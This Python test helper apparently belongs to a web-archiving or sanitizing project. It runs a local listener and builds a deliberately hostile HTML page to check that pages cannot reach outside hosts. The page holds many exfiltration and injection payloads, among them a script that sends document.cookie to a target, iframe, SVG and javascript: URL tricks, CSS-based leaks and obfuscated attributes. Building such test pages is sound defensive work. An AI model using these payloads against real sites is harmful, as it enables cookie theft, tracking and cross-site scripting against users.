"""Pages that try to send requests, run scripts or reach the archive, and a listener that records who connects."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

# A picture of one white point.
PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw=="


class Listener:
    """A server on this machine that answers nothing and records each connection with the first line of its request."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.requests: list[str] = []
        self.heard = threading.Event()

    def run(self) -> None:
        """Accept connections until the socket is closed."""
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                threading.Thread(target=self._record, args=[connection], daemon=True).start()

    def close(self) -> None:
        """Stop."""
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def _record(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            connection.settimeout(2)
            begin = "(a connection without a request)"
            with suppress(TimeoutError):
                begin = connection.recv(4096).decode("latin-1").partition("\r\n")[0] or begin
            self.requests.append(begin)
            self.heard.set()
            connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")


@contextmanager
def listening() -> Iterator[Listener]:
    """A listener that runs."""
    listener = Listener()
    thread = threading.Thread(target=listener.run, daemon=True)
    thread.start()
    try:
        yield listener
    finally:
        listener.close()
        thread.join(timeout=5)


def hostile_page(target: str, archive: str = "/") -> bytes:
    """A page that tries everything that a page could try, against target and against the archive at archive."""
    steal = (
        f"try {{ fetch('{target}/fetch?' + document.cookie) }} catch (error) {{}}"
        f"try {{ new Image().src = '{target}/image-of-script' }} catch (error) {{}}"
        f"try {{ navigator.sendBeacon('{target}/beacon') }} catch (error) {{}}"
        f"try {{ parent.document.title = 'taken' }} catch (error) {{}}"
        f"try {{ top.location = '{target}/top' }} catch (error) {{}}"
        f"try {{ fetch('{archive}search.json').then(r => r.text()).then(() => fetch('{target}/stolen')) }} catch {{}}"
        f"try {{ navigator.serviceWorker.register('/worker.js') }} catch (error) {{}}"
        f"try {{ new WebSocket('{target.replace('http', 'ws')}/socket') }} catch (error) {{}}"
        f"try {{ open('{target}/open') }} catch (error) {{}}"
        "document.title = 'ran'; document.documentElement.dataset.ran = 'yes';"
    )
    entity = "".join(f"&#{ord(letter)};" for letter in "preconnect")
    return f"""<!DOCTYPE html>
<html manifest="{target}/manifest.appcache" onload="{steal}">
<head>
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline' 'unsafe-eval'">
<meta http-equiv="refresh" content="0; url={target}/refresh">
<meta http-equiv=refresh content="0;url=javascript:{steal.replace('"', "&quot;")}">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="origin-trial" content="x"><meta http-equiv="accept-ch" content="DPR">
<base href="{target}/base/" target="_top">
<link rel="stylesheet" href="{target}/style.css"><LINK REL=stylesheet HREF={target}/style-2.css>
<link rel="preconnect" href="{target}"><link/rel="preconnect"/href="{target}">
<link
 rel="{entity}" href="{target}"><link title=">" rel="preconnect" href="{target}" crossorigin>
<link rel="dns-prefetch" href="{target}"><link rel="prefetch" href="{target}/prefetch">
<link rel="preload" as="image" href="{target}/preload"><link rel="modulepreload" href="{target}/module.js">
<link rel="prerender" href="{target}/prerender"><link rel="icon" href="{target}/icon.png">
<link rel="preload" as="image" imagesrcset="{target}/imagesrcset 1x">
<link rel="manifest" href="{target}/manifest.json"><link rel="import" href="{target}/import.html">
<link rel="expect" href="#later" blocking="render">
<script src="{target}/script.js"></script><script>{steal}</script>
<script type="module">import '{target}/import.js'; {steal}</script>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{target}/speculation"]}}]}}</script>
<style>
@import url("{target}/import.css"); @import "{target}/import-2.css" screen;
@font-face {{ font-family: stolen; src: url("{target}/font.woff2"); }}
body {{ font-family: stolen; background: url({target}/background.png); cursor: url({target}/cursor.cur), auto; }}
h1 {{ color: rgb(1, 2, 3); list-style: url({target}/list.png); border-image: url({target}/border.png) 1; }}
h1::before {{ content: url({target}/content.png); }} p {{ filter: url({target}/filter.svg#f); }}
div {{ background: image-set("{target}/set.png" 1x); mask: url({target}/mask.svg);
clip-path: url({target}/clip.svg#c); }}
input[value^="a"] {{ background: url({target}/value-a); }} :visited {{ background: url({target}/visited); }}
</style>
<svg><style>@import url("{target}/svg.css"); rect {{ fill: url({target}/fill.svg#x); }}</style></svg>
</head>
<body background="{target}/body.png" onload="{steal}" onpageshow="{steal}">
<h1>The hostile page</h1>
<p style="background: url('{target}/inline.png')">Words of the hostile page.</p>
<img src="{target}/img.png" onerror="{steal}"><img srcset="{target}/srcset.png 1x, {target}/srcset-2.png 2x">
<img src="x" onerror="{steal}"><img src="{PIXEL}" id="own-picture" loading="eager">
<picture><source srcset="{target}/source.png"><img src="{target}/fallback.png"></picture>
<iframe src="{target}/frame"></iframe><iframe src="{archive}search"></iframe>
<iframe src="javascript:{steal}"></iframe><IFRAME SRCDOC="&lt;link rel=preconnect href={target}&gt;
&lt;script&gt;{steal.replace('"', "&quot;")}&lt;/script&gt;&lt;img src={target}/srcdoc.png&gt;"></IFRAME>
<iframe srcdoc="<a id=inner href='{target}/inner' target=_top>inner</a>
<meta http-equiv=refresh content='0;url={target}/r'>">
</iframe>
<frameset><frame src="{target}/frameset"></frameset>
<object data="{target}/object" type="image/svg+xml"><p>Fallback.</p></object><embed src="{target}/embed">
<object data="data:text/html,<script>{steal}</script>"></object><applet code="{target}/applet"></applet>
<svg onload="{steal}"><script>{steal}</script><script href="{target}/svg.js"/><image href="{target}/svg.png"/>
<use href="{target}/use.svg#x"/><feImage href="{target}/fe.png"/>
<a href="{target}/svg-link" xlink:href="{target}/svg-xlink"><text id="svg-link" y="20">svg link</text></a>
<a href="{target}/x"><text id="animated" y="60">animated</text>
<animate attributeName="href" values="{archive}search" begin="0s" dur="1s" fill="freeze" repeatCount="indefinite"/></a>
<a href="#"><text id="set" y="80">set</text><set attributeName="href" to="{archive}search"/></a>
<animate attributeName="href" values="{target}/animated" begin="0s"/><set attributeName="href" to="{target}/set"/>
<foreignObject><iframe src="{target}/foreign"></iframe></foreignObject></svg>
<math href="{target}/math"><mtext id="math" href="{target}/mtext">formula</mtext>
<maction actiontype="statusline#{target}" xlink:href="{target}/maction">action</maction>
<a href="{target}/math-link"><mi id="math-link">x</mi></a></math>
<video src="{target}/video.mp4" poster="{target}/poster.png" autoplay><track src="{target}/track.vtt" default></video>
<audio src="{target}/audio.mp3" autoplay onerror="{steal}"></audio>
<table background="{target}/table.png"><tr><td background="{target}/cell.png">cell</td></tr></table>
<form id="form" action="{target}/form" method="post" target="_top"><input name="q" value="a">
<input id="autofocus" autofocus onfocus="{steal}"><button id="submit">Send</button>
<button id="formaction" formaction="{target}/formaction">Send</button>
<input type="image" src="{target}/input.png" id="image-button"></form>
<form action="{archive}search"><button id="to-archive">Search</button></form>
<input type="submit" form="form" id="other-submit">
<a id="top" href="{target}/link-top" target="_top" ping="{target}/ping">top</a>
<a id="blank" href="{target}/link-blank" target="_blank" ping="{target}/ping-2">blank</a>
<a id="self" href="{target}/link-self">self</a><a id="parent" href="{target}/link-parent" target="_parent">parent</a>
<A ID="upper" HREF="{target}/link-upper">upper</A><a/id="slash"/href="{target}/slash">slash</a>
<a
id="newline" href="{target}/newline">newline</a>
<a id="entity" &#104;ref="x" href="&#104;ttp{target[4:]}/entity">entity</a>
<a href="#later" href="{target}/second" id="fragment">within</a>
<a id="script-link" href="javascript:{steal}">script</a>
<a id="data" href="data:text/html,<script>{steal}</script>">data</a>
<a id="download" href="{target}/download" download>download</a><a id="archive" href="{archive}search">archive</a>
<a id="blob" href="blob:{target}/x">blob</a>
<map name="m"><area id="area" shape="default" href="{target}/area"></map>
<img usemap="#m" id="mapped" width="40" height="20">
<details open ontoggle="{steal}"><summary>more</summary></details><marquee onstart="{steal}">m</marquee>
<div popover id="pop">pop</div><button popovertarget="pop" id="popper">pop</button>
<div><template shadowrootmode="open"><link rel="preconnect" href="{target}">
<img src="{target}/shadow.png"></template></div>
<portal src="{target}/portal"></portal><fencedframe src="{target}/fenced"></fencedframe>
<noscript><img src="{target}/noscript.png"><link rel="preconnect" href="{target}"></noscript>
<?xml-stylesheet href="{target}/xml.css"?><isindex action="{target}/isindex">
<p id="later">The end of the hostile page.</p>
</body></html>""".encode()
